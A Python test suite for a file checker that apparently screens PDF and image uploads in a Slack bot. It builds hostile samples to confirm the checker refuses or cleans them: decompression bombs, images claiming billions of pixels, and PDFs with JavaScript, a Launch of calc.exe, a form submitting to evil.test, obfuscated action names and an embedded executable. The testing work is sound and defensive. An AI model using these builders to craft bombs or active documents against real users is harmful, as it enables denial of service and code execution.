"""Files that are made to do harm, or are too large inside: said quickly what they are, and the desk lives on."""

import io
import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image

from bot.loa.check import active
from bot.loa.check.child import LIMITS, judge
from bot.loa.check.rules import MOST_BYTES, Verdict


def png_that_claims(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says how large it is."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


def pages(count: int) -> bytes:
    """A PDF of so many empty pages."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(count):
            pdf.add_blank_page()
        pdf.save(out)
    return out.getvalue()


def with_stream(content: bytes, **entries: Any) -> bytes:
    """A PDF of one page whose content is this stream, as it stands."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        page.Contents = pikepdf.Stream(pdf, content, **entries)
        pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def with_huge_picture() -> bytes:
    """A PDF whose picture says that it has 65,536 x 65,536 pixels: 4 GiB in grey."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        entries = {
            "Type": pikepdf.Name.XObject, "Subtype": pikepdf.Name.Image, "Width": 65536, "Height": 65536,
            "ColorSpace": pikepdf.Name.DeviceGray, "BitsPerComponent": 8, "Filter": pikepdf.Name.FlateDecode,
        }  # fmt: skip
        picture = pikepdf.Stream(pdf, zlib.compress(b"\0" * 1000), **entries)
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=picture))
        page.Contents = pdf.make_stream(b"600 0 0 700 0 0 cm /P Do")
        pdf.save(out)
    return out.getvalue()


def packed(megabytes: int, start: bytes = b"") -> bytes:
    """Blanks by the million, packed: made of one packed million, again and again."""
    packer = zlib.compressobj(9)
    first = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    million = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + million * megabytes + packer.flush()


def with_packed_objects(megabytes: int) -> bytes:
    """A PDF whose objects stand in a stream that unpacks to so much."""
    stream = packed(megabytes, b"1 0 2 200 ".ljust(20) + b"<</Type/Catalog/Pages 2 0 R>>".ljust(200))
    body = b"%PDF-1.7\n"
    at = len(body)
    body += b"4 0 obj\n<</Type/ObjStm/N 2/First 20/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
    body += stream + b"\nendstream endobj\n"
    entries = ((0, 0, 0), (2, 4, 0), (2, 4, 1), (0, 0, 0), (1, at, 0))
    table = b"".join(struct.pack(">BIB", *entry) for entry in entries)
    start = len(body)
    body += b"5 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % start


FLATE = pikepdf.Name.FlateDecode
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "nothing": (lambda: b"", "empty", "0 bytes"),
    "eleven megabytes": (lambda: b"%PDF-1.7" + b"\0" * 11_000_000, "too_large", "11.0 MB"),
    "HEIC": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "wrong_kind", "a HEIC picture"),
    "Word": (lambda: b"PK\x03\x04" + b"\0" * 99, "wrong_kind", "a Word, Excel or zip file"),
    "400 pages": (lambda: pages(400), "too_many_pages", "400 pages"),
    "a PNG of 100,000 x 100,000": (lambda: png_that_claims(100_000, 100_000), "too_many_pixels", "100,000 x 100,000"),
    "half a PNG": (lambda: png_that_claims(1000, 1000), "broken", "not a whole picture"),
    "a PDF with a picture of 4 GiB": (with_huge_picture, "too_many_pixels", "65,536 x 65,536"),
    "a stream that unpacks to 400 MB": (
        lambda: with_stream(packed(400), Filter=FLATE), "too_heavy", "more than 300 MB"
    ),
    "a stream packed three times": (
        lambda: with_stream(zlib.compress(zlib.compress(packed(9))), Filter=pikepdf.Array([FLATE] * 3)),
        "too_heavy", "packed 3 times",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_what_nobody_should_open_is_refused_with_the_measure_of_it(name: str, post: Any) -> None:
    """The finding names what was measured."""
    make, rule, measured = HOSTILE[name]
    judged = post.judge(make())
    (found,) = judged.findings
    assert (judged.verdict, found.rule) == (Verdict.REFUSED, rule)
    assert measured in found.measured
    assert (judged.clean, judged.crop) == (None, None)


def test_the_limit_is_what_slacks_file_field_takes() -> None:
    """Ten megabytes: nobody can attach more, and nothing that can be attached is refused for its size."""
    assert MOST_BYTES == 10_000_000


def acts_everywhere(pdf: pikepdf.Pdf) -> None:
    """Give a PDF everything that can act by itself."""
    name, dictionary = pikepdf.Name, pikepdf.Dictionary
    script = dictionary(S=name.JavaScript, JS="app.alert(1)")
    launch = pdf.make_indirect(dictionary(S=name.Launch, F="calc.exe"))
    link = dictionary(
        Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=dictionary(S=name.URI, URI="https://8x8.com")
    )
    script_link = dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9])
    script_link.A = dictionary(S=name.URI, URI=" JavaScript:alert(1)", Next=pikepdf.Array([launch, script]))
    button = dictionary(Type=name.Annot, Subtype=name.Widget, FT=name.Btn, T="b", Rect=[0, 0, 9, 9], A=launch)
    button.AA = dictionary(U=dictionary(S=name.SubmitForm, F="https://evil.test"))
    attached = dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9])
    page = pdf.pages[0]
    marks = [pdf.make_indirect(each) for each in (link, script_link, button, attached)]
    page.Annots = pikepdf.Array([*page.get("/Annots", []), *marks])
    page.AA = dictionary(O=script)
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = dictionary(WC=script)
    pdf.Root.AcroForm = dictionary(Fields=[marks[2]], XFA=pdf.make_stream(b"<xdp/>"))
    pdf.Root.Names = dictionary(JavaScript=dictionary(Names=["x", script]))
    pdf.attachments["evil.exe"] = b"MZ evil"


def test_what_acts_by_itself_is_gone_from_the_copy_that_is_kept(post: Any, ways: Any) -> None:
    """Scripts, programs, forms that send themselves and attached files go; the signature and honest links stay."""
    judged = post.judge(ways.saved(post.drawn_on("Ink"), acts_everywhere))
    assert [found.rule for found in judged.findings] == ["cleaned", "ink", "drawn"]
    assert judged.clean is not None
    with pikepdf.open(judged.clean) as kept:
        assert not active.acting(kept)
        plain = b"".join(each.unparse(resolved=True) for each in kept.objects)
        streams = b"".join(each.read_bytes() for each in kept.objects if isinstance(each, pikepdf.Stream))
        assert str(kept.pages[0].Annots[1].A.URI) == "https://8x8.com"
    for evil in (b"alert", b"calc.exe", b"evil", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"xdp", b"/XFA"):
        assert evil not in plain + streams, evil


def test_names_are_read_in_whatever_way_they_are_written(post: Any, ways: Any) -> None:
    """A script whose name is written in parts goes too, and a name that is no UTF-8 stops nobody."""

    def hide(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Object.parse(b"<< /S /J#61vaScript /JS (alert) >>")
        pdf.pages[0].Annots.append(pdf.make_indirect(pikepdf.Object.parse(b"<< /Subtype /X#b0 /K#c4 /V#ff >>")))

    judged = post.judge(ways.saved(post.drawn_on("Ink"), hide))
    assert [found.rule for found in judged.findings] == ["cleaned", "ink", "drawn"]
    assert judged.clean is not None
    with pikepdf.open(judged.clean) as kept:
        assert "/OpenAction" not in kept.Root


def test_a_signed_file_that_acts_is_kept_as_it_came_and_a_person_is_warned(post: Any, ways: Any) -> None:
    """To clean it would break its seal."""
    came = post.sealed(ways.saved(post.original, acts_everywhere))
    judged = post.judge(came)
    assert (judged.verdict, judged.sealed) == (Verdict.DOUBTFUL, True)
    assert "active_in_seal" in [found.rule for found in judged.findings]
    assert judged.clean is not None
    assert judged.clean.read_bytes() == came


async def test_the_whole_way_through_the_child_gives_what_the_look_gives(post: Any, ways: Any, tmp_path: Path) -> None:
    """A scan goes in, and out come the verdict, the copy and the crop."""
    came = tmp_path / "came"
    came.write_bytes(ways.scanned(post.signed()))
    judged = await judge(post.expected, came, "signed.pdf", tmp_path)
    assert replace(judged, clean=None, crop=None) == replace(post.judge(came.read_bytes()), clean=None, crop=None)
    assert judged.clean is not None
    assert judged.crop is not None
    with pikepdf.open(judged.clean) as kept, Image.open(judged.crop) as crop:
        assert (len(kept.pages), crop.format) == (1, "PNG")


async def test_objects_that_unpack_to_gigabytes_end_the_child_alone(post: Any, tmp_path: Path) -> None:
    """Memory is limited before the file is opened: its objects are never found."""
    came = tmp_path / "came"
    came.write_bytes(with_packed_objects(2000))
    judged = await judge(post.expected, came, "bomb.pdf", tmp_path, limits=replace(LIMITS, memory_bytes=256 << 20))
    assert (judged.verdict, [found.rule for found in judged.findings]) == (Verdict.REFUSED, ["broken"])


async def test_a_child_that_is_too_slow_refuses_nobody(post: Any, ways: Any, tmp_path: Path) -> None:
    """What a busy machine cannot do in time, a person looks at."""
    came = tmp_path / "came"
    came.write_bytes(ways.scanned(post.signed()))
    judged = await judge(post.expected, came, "signed.pdf", tmp_path, limits=replace(LIMITS, wall_seconds=0.001))
    assert (judged.verdict, [found.rule for found in judged.findings]) == (Verdict.DOUBTFUL, ["not_checked"])


async def test_a_file_that_works_the_processor_too_long_is_refused(post: Any, ways: Any, tmp_path: Path) -> None:
    """Its seconds are counted, not those of the clock."""
    came = tmp_path / "came"
    came.write_bytes(with_stream(b"0 0 m 9 9 l 500 700 l b " * 400_000))
    judged = await judge(post.expected, came, "slow.pdf", tmp_path, limits=replace(LIMITS, cpu_seconds=1))
    assert [(found.rule, found.measured) for found in judged.findings] == [("too_heavy", "more than 1 seconds of work")]


def test_what_the_child_says_comes_through_json(post: Any, ways: Any) -> None:
    """Paths, findings and verdict are the same on both sides."""
    judged = post.judge(ways.scanned(post.signed()))
    assert type(judged).from_json(json.loads(json.dumps(judged.to_json()))) == judged
    expected = post.expected
    assert type(expected).from_json(json.loads(json.dumps(expected.to_json()))) == expected
